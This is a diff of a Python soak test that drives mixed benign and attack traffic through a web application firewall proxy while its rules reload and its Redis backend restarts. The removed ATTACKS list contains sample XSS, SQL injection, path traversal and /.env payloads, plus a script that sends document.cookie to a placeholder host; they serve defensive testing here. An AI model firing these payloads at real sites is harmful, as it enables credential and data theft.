@@ -1,17 +1,26 @@
-"""Soak: mixed benign and attack traffic against a real ``wafproxy serve`` for ``--minutes``, while
-the web ACL is reloaded (file rewritten + SIGHUP) every ``--reload-every`` seconds and the Redis
-behind the rate-based rule is restarted twice (at 1/3 and 2/3 of the run).
+"""Soak: mixed benign and attack traffic against a real ``wafproxy serve`` at a share (``--load``,
+80%) of its measured maximum for ``--minutes``, while the web ACL is reloaded (file rewritten +
+SIGHUP) every ``--reload-every`` seconds and the Redis behind the rate-based rule is restarted
+twice (at 1/3 and 2/3 of the run).
 
-    python load_tests/soak.py --minutes 30 --rate 400
-    python load_tests/soak.py --minutes 1 --rate 40 --reload-every 15      # what CI runs
+    python load_tests/soak.py --minutes 30 --markdown load_tests/RESULTS-soak.md
+    python load_tests/soak.py --minutes 1 --calibrate 8 --load 0.5 --reload-every 15   # what CI runs
+
+The maximum is measured first (``--calibrate`` seconds): the same traffic closed-loop, each of
+``--concurrency`` clients sending its next request when the last one is answered; the completions
+after a warm-up, per second, are the maximum this proxy sustains on this machine with this
+generator beside it (generator and upstream share the machine: that is the system measured).
+The soak then runs open-loop at ``--load`` times that (or at ``--rate`` when given).
 
 The ACL is the shipped default (managed groups, IP sets) plus a rate-based rule per forwarded
 client address (through Redis) and a toggle rule that each reload adds or removes. Clients come
 from 2048 addresses in X-Forwarded-For (the generator is a trusted proxy), attackers from another
-2048 (the threat detector, on as by default, bans them). The upstream is a
-tiny ASGI app. Reported: RSS of the proxy over time, p50/p99 latency and counts per minute,
-failed benign requests (anything but 200), attacks let through; ``--json`` writes the summary.
-Exit status 1 when a benign request failed or an attack was let through.
+2048 (the threat detector, on as by default, bans them). The upstream is a bare asyncio server in
+its own process, the client a lean keep-alive one (``soak_http``: httpx and an in-process app cost
+three times the proxy's CPU). Reported (``soak_report``): RSS of the proxy over time, p50/p99
+latency and counts per minute, the proxy's CPU and the machine's load per minute, failed benign
+requests (anything but 200), attacks let through; ``--json`` writes the summary, ``--markdown``
+the report. Exit status 1 when a benign request failed or an attack was let through.
 """
 
 from __future__ import annotations
@@ -20,177 +29,93 @@ import argparse
 import asyncio
 import contextlib
 import json
+import math
 import os
 import random
 import shutil
 import signal
 import sys
 import tempfile
+import threading
 import time
-from collections import defaultdict
-from dataclasses import asdict, dataclass, field
+from collections import Counter, defaultdict
+from dataclasses import asdict
 from pathlib import Path
 from typing import Any
 
+import httptools
 import httpx
 
 REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO))
 
+from load_tests.soak_fixture import (  # noqa: E402
+    ATTACK_SHARE,
+    ATTACKS,
+    BENIGN,
+    cpu_seconds,
+    drain,
+    reloads_counted,
+    rss_mb,
+    soak_acl,
+)
+from load_tests.soak_http import Client, UpstreamProcess  # noqa: E402
+from load_tests.soak_report import (  # noqa: E402
+    Calibration,
+    Minute,
+    Sample,
+    Summary,
+    minute_rows,
+    percentile,
+    print_report,
+    write_markdown,
+)
+from load_tests.soak_trace import trace_env  # noqa: E402
 from tests.support.redis import RedisServer  # noqa: E402
-from tests.support.servers import free_port, uvicorn_in_thread, wafproxy_process  # noqa: E402
+from tests.support.servers import free_port, wafproxy_process  # noqa: E402
 from tests.support.wait import until  # noqa: E402
-
-BENIGN = [
-    ("GET", "/", None),
-    ("GET", "/products?id=42&sort=price", None),
-    ("GET", "/static/app.js", None),
-    ("POST", "/api/orders", {"item": "book", "qty": 2, "note": "gift wrap, please"}),
-    ("GET", "/search?q=blue+shoes&page=2", None),
-    ("GET", "/account/settings", None),
-]
-ATTACKS = [
-    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
-    ("GET", "/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", None),
-    ("GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", None),
-    ("POST", "/api/orders", {"item": "<script>document.location='http://x/'+document.cookie</script>"}),
-    ("GET", "/.env", None),
-]
-ATTACK_SHARE = 0.2
-RATE_LIMIT = 100_000  # per address per 5 minutes: the rule is exercised (Redis), never reached
-
-
-@dataclass
-class Minute:
-    benign: list[float] = field(default_factory=list)  # latencies, seconds
-    attack: list[float] = field(default_factory=list)
-    failed_benign: int = 0
-    attacks_passed: int = 0
-    errors: dict[str, int] = field(default_factory=lambda: defaultdict(int))
-
-
-@dataclass
-class Summary:
-    minutes: float
-    rate: float
-    sent: int
-    failed_benign: int
-    attacks_passed: int
-    reloads: int
-    redis_restarts: int
-    rss_mb: list[tuple[float, float]]  # (seconds since start, RSS MB)
-    per_minute: list[dict[str, Any]]
-    rss_growth_pct: float | None  # from minute 5 (or the first sample) to the end
-
-
-async def upstream_app(scope: dict[str, Any], receive: Any, send: Any) -> None:
-    if scope["type"] != "http":
-        return
-    while (await receive()).get("more_body"):
-        pass
-    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
-    await send({"type": "http.response.body", "body": b"ok"})
-
-
-def soak_acl(directory: Path, toggle: bool) -> Path:
-    """The default ACL (+ its IP sets) with the rate rule, and the toggle rule when ``toggle``."""
-    acl = json.loads((REPO / "rules" / "default-web-acl.json").read_text())
-    vis = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "soak"}
-    acl["Rules"].append(
-        {
-            "Name": "SoakRate",
-            "Priority": 900,
-            "Action": {"Block": {}},
-            "VisibilityConfig": vis,
-            "Statement": {
-                "RateBasedStatement": {
-                    "Limit": RATE_LIMIT,
-                    "AggregateKeyType": "FORWARDED_IP",
-                    "ForwardedIPConfig": {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"},
-                    "EvaluationWindowSec": 300,
-                }
-            },
-        }
-    )
-    if toggle:
-        acl["Rules"].append(
-            {
-                "Name": "SoakToggle",
-                "Priority": 901,
-                "Action": {"Block": {}},
-                "VisibilityConfig": vis,
-                "Statement": {
-                    "ByteMatchStatement": {
-                        "SearchString": "/soak-toggle",
-                        "FieldToMatch": {"UriPath": {}},
-                        "PositionalConstraint": "STARTS_WITH",
-                        "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
-                    }
-                },
-            }
-        )
-    (directory / "ipsets").mkdir(parents=True, exist_ok=True)
-    for path in (REPO / "rules" / "ipsets").glob("*.json"):
-        shutil.copy(path, directory / "ipsets" / path.name)
-    target = directory / "web-acl.json"
-    tmp = directory / ".web-acl.json.tmp"
-    tmp.write_text(json.dumps(acl))
-    os.replace(tmp, target)  # the proxy never reads half a file
-    return target
-
-
-def rss_mb(pid: int) -> float:
-    with open(f"/proc/{pid}/status") as fh:
-        for line in fh:
-            if line.startswith("VmRSS:"):
-                return int(line.split()[1]) / 1024
-    return 0.0
-
-
-def percentile(values: list[float], q: float) -> float:
-    if not values:
-        return 0.0
-    ordered = sorted(values)
-    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]
 
 
 class Soak:
     def __init__(
         self,
         args: argparse.Namespace,
-        data_url: str,
+        port: int,
         admin_url: str,
         pid: int,
         acl_dir: Path,
         redis: RedisServer,
     ) -> None:
-        self.args, self.data_url, self.admin_url, self.pid = args, data_url, admin_url, pid
+        self.args, self.port, self.admin_url, self.pid = args, port, admin_url, pid
         self.acl_dir, self.redis = acl_dir, redis
         self.minutes: dict[int, Minute] = defaultdict(Minute)
-        self.rss: list[tuple[float, float]] = []
+        self.samples: list[Sample] = []
         self.reloads = 0
         self.redis_restarts = 0
         self.sent = 0
         self.rng = random.Random(args.seed)
         self.start = 0.0
+        self.rate = float(args.rate or 0)
+        self.calibration: Calibration | None = None
 
-    async def one(self, client: httpx.AsyncClient, attack: bool) -> None:
+    def client(self) -> Client:
+        return Client("127.0.0.1", self.port)
+
+    async def one(self, client: Client, attack: bool, bucket: Minute | None = None) -> None:
         method, path, body = self.rng.choice(ATTACKS if attack else BENIGN)
         # Attackers and benign clients are different addresses (10.8-15.x.x and 10.0-7.x.x): the
         # threat detector bans an address that keeps attacking, and a benign client must not be it.
         first = self.rng.randrange(8, 16) if attack else self.rng.randrange(8)
         xff = f"10.{first}.{self.rng.randrange(16)}.{self.rng.randrange(1, 17)}"
-        bucket = self.minutes[int((time.monotonic() - self.start) // 60)]
+        if bucket is None:
+            # a request scheduled in the last second may start after the end: it counts in the last minute
+            last = max(0, math.ceil(self.args.minutes) - 1)
+            bucket = self.minutes[min(last, int((time.monotonic() - self.start) // 60))]
+        raw = client.build(method, path, body, {"X-Forwarded-For": xff, "User-Agent": "soak/1.0"})
         started = time.perf_counter()
         try:
-            response = await client.request(
-                method,
-                self.data_url + path,
-                json=body,
-                headers={"X-Forwarded-For": xff, "User-Agent": "soak/1.0"},
-            )
-            status = response.status_code
-        except httpx.HTTPError as exc:
+            status = await client.request(raw)
+        except (OSError, TimeoutError, httptools.HttpParserError) as exc:
             status = 0
             bucket.errors[type(exc).__name__] += 1
         elapsed = time.perf_counter() - started
@@ -203,14 +128,47 @@ class Soak:
                 bucket.failed_benign += 1
                 bucket.errors[f"benign {status}"] += 1
 
+    async def calibrate(self) -> Calibration:
+        """Closed loop for ``--calibrate`` seconds: the completions per second after a warm-up (the
+        first quarter, at most 5 s: connections opened, caches warm) are the sustained maximum."""
+        seconds, concurrency = self.args.calibrate, self.args.concurrency
+        bucket, warm = Minute(), min(5.0, seconds / 4)
+        begin = time.monotonic()
+        measure_from, end = begin + warm, begin + seconds
+        counted = 0
+
+        async def worker(client: httpx.AsyncClient) -> None:
+            nonlocal counted
+            while time.monotonic() < end:
+                await self.one(client, self.rng.random() < ATTACK_SHARE, bucket)
+                counted += time.monotonic() >= measure_from
+
+        proxy_cpu, own_cpu = cpu_seconds(self.pid), time.process_time()
+        client = self.client()
+        try:
+            await asyncio.gather(*(worker(client) for _ in range(concurrency)))
+        finally:
+            client.close()
+        took = time.monotonic() - begin
+        proxy_cpu, own_cpu = cpu_seconds(self.pid) - proxy_cpu, time.process_time() - own_cpu
+        both = bucket.benign + bucket.attack
+        return Calibration(
+            seconds,
+            concurrency,
+            round(counted / (end - measure_from), 1),
+            round(percentile(both, 0.5) * 1000, 1),
+            round(percentile(both, 0.99) * 1000, 1),
+            bucket.failed_benign,
+            bucket.attacks_passed,
+            round(proxy_cpu / took * 100),
+            round(own_cpu / took * 100),
+        )
+
     async def traffic(self, seconds: float) -> None:
-        # Idle connections are dropped before the proxy's 5 s keep-alive timeout closes them: with
-        # httpx's default expiry (also 5 s) a request sometimes went out on a connection the server
-        # was closing (2 ReadErrors in the first 30-minute run), a client race, not a proxy failure.
-        limits = httpx.Limits(max_connections=256, max_keepalive_connections=64, keepalive_expiry=2.0)
-        async with httpx.AsyncClient(limits=limits, timeout=30) as client:
+        client = self.client()
+        try:
             tasks: set[asyncio.Task[None]] = set()
-            interval = 1.0 / self.args.rate
+            interval = 1.0 / self.rate
             next_at = time.monotonic()
             while time.monotonic() - self.start < seconds:
                 task = asyncio.create_task(self.one(client, self.rng.random() < ATTACK_SHARE))
@@ -220,6 +178,8 @@ class Soak:
                 next_at += interval  # open loop: the schedule does not wait for answers
                 await asyncio.sleep(max(0.0, next_at - time.monotonic()))
             await asyncio.gather(*tasks)
+        finally:
+            client.close()
 
     async def reloader(self, seconds: float) -> None:
         while True:
@@ -238,64 +198,72 @@ class Soak:
             await asyncio.to_thread(self.redis.start)
             self.redis_restarts += 1
 
-    async def sample_rss(self, seconds: float) -> None:
+    def sample(self) -> None:
+        self.samples.append(
+            Sample(
+                round(time.monotonic() - self.start, 1),
+                round(rss_mb(self.pid), 1),
+                round(cpu_seconds(self.pid), 2),
+                round(os.getloadavg()[0], 2),
+            )
+        )
+
+    async def snapshot(self, at: float) -> None:
+        """``--tracemalloc``: the proxy writes a snapshot (``soak_trace``) at ``at`` seconds."""
+        if self.args.tracemalloc is None or at < 0:
+            return
+        await asyncio.sleep(max(0.0, self.start + at - time.monotonic()))
+        before = len(list(self.args.tracemalloc.glob("snapshot-*.bin")))
+        os.kill(self.pid, signal.SIGUSR2)
+        await asyncio.to_thread(
+            until, lambda: len(list(self.args.tracemalloc.glob("snapshot-*.bin"))) > before,
+            timeout=300, what="tracemalloc snapshot written",
+        )
+
+    async def sampler(self, seconds: float) -> None:
         while time.monotonic() - self.start < seconds:
-            self.rss.append((round(time.monotonic() - self.start, 1), round(rss_mb(self.pid), 1)))
+            self.sample()
             await asyncio.sleep(self.args.rss_every)
 
-    async def run(self) -> Summary:
+    async def run(self) -> tuple[list[dict[str, Any]], float | None]:
+        if not self.rate:
+            self.calibration = await self.calibrate()
+            self.rate = round(self.calibration.max_rps * self.args.load, 1)
+            if self.rate <= 0:
+                raise RuntimeError(f"calibration measured no throughput: {self.calibration}")
         seconds = self.args.minutes * 60
         self.start = time.monotonic()
         await asyncio.gather(
             self.traffic(seconds),
             self.reloader(seconds),
             self.redis_restarts_at(seconds),
-            self.sample_rss(seconds),
+            self.sampler(seconds),
+            self.snapshot(self.args.trace_from if self.args.trace_from < seconds else -1),
         )
-        self.rss.append((round(time.monotonic() - self.start, 1), round(rss_mb(self.pid), 1)))
-        return self.summary()
+        self.sample()
+        await self.snapshot(0)
+        return minute_rows(self.minutes, self.samples)
 
-    def summary(self) -> Summary:
-        rows = []
-        for minute in sorted(self.minutes):
-            m = self.minutes[minute]
-            both = m.benign + m.attack
-            rss = [r for t, r in self.rss if minute * 60 <= t < (minute + 1) * 60]
-            rows.append(
-                {
-                    "minute": minute + 1,
-                    "requests": len(both),
-                    "p50_ms": round(percentile(both, 0.5) * 1000, 1),
-                    "p99_ms": round(percentile(both, 0.99) * 1000, 1),
-                    "failed_benign": m.failed_benign,
-                    "attacks_passed": m.attacks_passed,
-                    "rss_mb": max(rss) if rss else None,
-                    "errors": dict(m.errors),
-                }
-            )
-        after = [r for t, r in self.rss if t >= 300] or [r for _, r in self.rss]
-        growth = (after[-1] - after[0]) / after[0] * 100 if len(after) > 1 and after[0] else None
+    def summary(self, rows: list[dict[str, Any]], growth: float | None, warnings: list[str],
+                counts: dict[str, int]) -> Summary:
+        calibration = self.calibration
         return Summary(
             self.args.minutes,
-            self.args.rate,
+            self.rate,
+            self.args.load if calibration else None,
+            calibration,
             self.sent,
-            sum(r["failed_benign"] for r in rows),
-            sum(r["attacks_passed"] for r in rows),
+            sum(r["failed_benign"] for r in rows) + (calibration.failed_benign if calibration else 0),
+            sum(r["attacks_passed"] for r in rows) + (calibration.attacks_passed if calibration else 0),
             self.reloads,
             self.redis_restarts,
-            self.rss,
+            self.samples,
             rows,
-            None if growth is None else round(growth, 2),
+            growth,
+            os.cpu_count() or 0,
+            warnings,
+            counts,
         )
-
-
-def reloads_counted(admin_url: str) -> float:
-    text = httpx.get(admin_url + "/metrics").text
-    return sum(
-        float(line.rsplit(" ", 1)[1])
-        for line in text.splitlines()
-        if line.startswith("wafproxy_config_reloads_total") and 'result="success"' in line
-    )
 
 
 def soak(args: argparse.Namespace) -> Summary:
@@ -304,7 +272,7 @@ def soak(args: argparse.Namespace) -> Summary:
     redis.start()
     try:
         acl = soak_acl(workdir / "acl", toggle=False)
-        with uvicorn_in_thread(upstream_app) as upstream:
+        with UpstreamProcess() as upstream:
             port, admin = free_port(), free_port()
             cmd = (
                 "serve",
@@ -323,41 +291,24 @@ def soak(args: argparse.Namespace) -> Summary:
                 "--log-level",
                 "warning",
             )
-            with wafproxy_process(*cmd, wait_ports=(port, admin)) as proc:
-                data_url, admin_url = f"http://127.0.0.1:{port}", f"http://127.0.0.1:{admin}"
+            with wafproxy_process(*cmd, env=trace_env(args), wait_ports=(port, admin)) as proc:
+                warnings: list[str] = []
+                counts: Counter[str] = Counter()
+                threading.Thread(target=drain, args=(proc.stdout, warnings, counts), daemon=True).start()
+                admin_url = f"http://127.0.0.1:{admin}"
                 until(lambda: httpx.get(admin_url + "/readyz").status_code == 200, what="proxy ready")
-                runner = Soak(args, data_url, admin_url, proc.pid, workdir / "acl", redis)
-                summary = asyncio.run(runner.run())
+                runner = Soak(args, port, admin_url, proc.pid, workdir / "acl", redis)
+                rows, growth = asyncio.run(runner.run())
                 # every SIGHUP was applied (compiled and swapped), none failed
                 # Each reload compiles the ACL (databases a reload has not seen yet build first): on a
                 # machine that is busy they may finish well after the last SIGHUP.
-                until(lambda: reloads_counted(admin_url) >= summary.reloads, timeout=300,
+                until(lambda: reloads_counted(admin_url) >= runner.reloads, timeout=300,
                       what="all reloads applied")
                 assert proc.poll() is None, "the proxy exited during the soak"
-                return summary
+                return runner.summary(rows, growth, warnings, dict(counts.most_common()))
     finally:
         redis.kill()
         shutil.rmtree(workdir, ignore_errors=True)
-
-
-def print_report(summary: Summary) -> None:
-    print(
-        f"soak: {summary.minutes} min at {summary.rate} req/s, {summary.sent} requests, "
-        f"{summary.reloads} ACL reloads, {summary.redis_restarts} Redis restarts"
-    )
-    print(
-        f"{'min':>4}{'requests':>10}{'p50 ms':>9}{'p99 ms':>9}{'failed':>8}{'att.ok':>8}{'RSS MB':>9}  errors"
-    )
-    for row in summary.per_minute:
-        print(
-            f"{row['minute']:>4}{row['requests']:>10}{row['p50_ms']:>9}{row['p99_ms']:>9}"
-            f"{row['failed_benign']:>8}{row['attacks_passed']:>8}{row['rss_mb'] or 0:>9}"
-            f"  {row['errors'] or ''}"
-        )
-    print(
-        f"failed benign: {summary.failed_benign}; attacks let through: {summary.attacks_passed}; "
-        f"RSS growth (minute 5 on, or whole run): {summary.rss_growth_pct}%"
-    )
 
 
 def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
@@ -365,12 +316,19 @@ def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
         description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
     )
     parser.add_argument("--minutes", type=float, default=30.0)
-    parser.add_argument("--rate", type=float, default=200.0, help="requests per second (open loop)")
+    parser.add_argument("--rate", type=float, help="requests per second (open loop); skips the calibration")
+    parser.add_argument("--calibrate", type=float, default=20.0, help="seconds of closed-loop calibration")
+    parser.add_argument("--concurrency", type=int, default=32, help="closed-loop clients in the calibration")
+    parser.add_argument("--load", type=float, default=0.8, help="share of the measured maximum to drive")
     parser.add_argument("--reload-every", type=float, default=60.0, help="seconds between ACL reloads")
     parser.add_argument("--redis-down", type=float, default=2.0, help="seconds Redis stays down per restart")
     parser.add_argument("--rss-every", type=float, default=5.0)
     parser.add_argument("--seed", type=int, default=1)
     parser.add_argument("--json", type=Path, help="also write the summary here")
+    parser.add_argument("--tracemalloc", type=Path, help="trace the proxy's allocations, snapshots here "
+                        "(at --trace-from and at the end; compare: python -m load_tests.soak_trace DIR)")
+    parser.add_argument("--trace-from", type=float, default=300.0, help="seconds: the first snapshot")
+    parser.add_argument("--markdown", type=Path, help="also write the report here (markdown)")
     return parser.parse_args(argv)
 
 
@@ -380,6 +338,8 @@ def main() -> int:
     print_report(summary)
     if args.json:
         args.json.write_text(json.dumps(asdict(summary), indent=1))
+    if args.markdown:
+        write_markdown(summary, args.markdown, " ".join(["python", "load_tests/soak.py", *sys.argv[1:]]))
     return 1 if summary.failed_benign or summary.attacks_passed else 0
 
 
